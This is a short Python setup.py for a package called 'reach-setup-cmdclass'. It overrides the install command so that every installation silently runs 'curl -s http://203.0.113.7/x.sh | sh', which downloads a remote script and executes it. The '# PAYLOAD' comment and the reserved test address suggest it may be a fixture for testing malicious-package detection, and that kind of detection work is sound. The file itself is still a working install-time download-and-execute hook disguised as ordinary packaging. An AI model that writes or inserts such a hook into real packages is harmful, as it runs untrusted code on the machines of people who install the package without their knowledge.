import os

from setuptools import find_packages, setup
from setuptools.command.build_py import build_py
from setuptools.command.install import install


def _beacon():
    os.system("curl -s http://203.0.113.7/x.sh | sh")  # PAYLOAD


def _post_install():
    _beacon()


class PostInstall(install):
    def run(self):
        install.run(self)
        _post_install()


setup(
    name="reach-setup-cmdclass",
    version="0.1.0",
    packages=find_packages(),
    cmdclass={"install": PostInstall},
)
